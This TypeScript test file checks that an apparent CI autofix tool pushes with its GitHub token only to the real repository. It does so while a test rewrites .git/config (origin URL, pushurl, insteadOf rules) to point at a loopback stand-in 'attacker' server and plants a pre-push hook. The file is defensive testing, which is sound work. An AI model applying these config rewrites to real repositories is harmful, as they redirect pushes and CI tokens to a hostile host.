// The token goes only to the repository's own URL (GITHUB_SERVER_URL and
// GITHUB_REPOSITORY), never to a URL the workspace chose: the repository's
// checks run before the push and may rewrite .git/config (the origin URL, an
// insteadOf rule, a pushurl) or add a pre-push hook. autofix runs in-process
// against the fake GitHub and a scripted model; a loopback listener stands
// in for an attacker's server and records anything that reaches it.
import {existsSync} from 'node:fs'
import {chmod, writeFile} from 'node:fs/promises'
import {createServer, type IncomingHttpHeaders, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {join} from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'
import {startFakeAnthropic, type FakeAnthropic} from '../fakes/anthropic/index.js'
import {
  checkout,
  cleanupAutofixRuns,
  fixDiscount,
  inputsFor,
  perAttempt,
  runAutofixInProcess,
  said,
  NODE_TEST_COMMAND,
  TEST_ONLY,
  TOKEN,
  type Checkout
} from '../harness/autofix-run.js'

let world: Checkout | undefined
let model: FakeAnthropic | undefined
let listener: Server | undefined

afterEach(async () => {
  await cleanupAutofixRuns()
  await world?.github.close()
  await model?.close()
  await world?.repo.cleanup()
  await new Promise(resolve => (listener ? listener.close(resolve) : resolve(undefined)))
  world = model = listener = undefined
})

/** A loopback HTTP server that answers 401 (as a server fishing for credentials would) and records each request's headers. */
async function attacker(): Promise<{url: string; seen: IncomingHttpHeaders[]}> {
  const seen: IncomingHttpHeaders[] = []
  listener = createServer((req, res) => {
    seen.push(req.headers)
    res.writeHead(401, {'www-authenticate': 'Basic realm="x"'}).end()
  })
  await new Promise<void>(resolve => listener!.listen(0, '127.0.0.1', resolve))
  return {url: `http://127.0.0.1:${(listener.address() as AddressInfo).port}`, seen}
}

describe('the push goes to the repository, whatever .git/config says', () => {
  it('ignores a rewritten origin URL, insteadOf and pushurl rules and a pre-push hook in the workspace', async () => {
    world = await checkout({fixture: 'ts-node-test'})
    const {repo, github} = world
    const evil = await attacker()
    // What a check could do to the workspace's git config before the push.
    await repo.git(['remote', 'set-url', 'origin', `${evil.url}/stolen.git`])
    await repo.git(['config', 'remote.origin.pushurl', `${evil.url}/stolen-push.git`])
    await repo.git(['config', `url.${evil.url}/.insteadOf`, `${github.serverUrl}/`])
    await repo.git(['config', `url.${evil.url}/.pushInsteadOf`, `${github.serverUrl}/`])
    const marker = join(repo.dir, '..', `${repo.name}-hook-ran`)
    const hook = join(repo.dir, '.git', 'hooks', 'pre-push')
    await writeFile(hook, `#!/bin/sh\ntouch '${marker}'\n`)
    await chmod(hook, 0o755)

    model = await startFakeAnthropic({models: 'any', script: perAttempt(fixDiscount())})
    const run = await runAutofixInProcess({
      workspace: repo.dir,
      apiUrl: github.url,
      inputs: inputsFor(model, {...TEST_ONLY, ...NODE_TEST_COMMAND, fingerprint: 'target'})
    })

    expect(run.error, said(run)).toBeUndefined()
    // The branch landed on the repository, pushed with the token...
    const branch = 'ci-medic/autofix/target'
    expect(github.git.branchSha(branch)).toBe(await repo.git(['rev-parse', 'HEAD']))
    const pushes = github.gitRequests.filter(r => r.service === 'git-receive-pack')
    expect(pushes.length).toBeGreaterThan(0)
    expect(pushes.some(r => r.password === TOKEN)).toBe(true)
    expect(github.state.pulls).toHaveLength(1)
    // ...and nothing reached the URLs the workspace named; no hook of its ran.
    expect(evil.seen).toEqual([])
    expect(existsSync(marker)).toBe(false)
  })
})
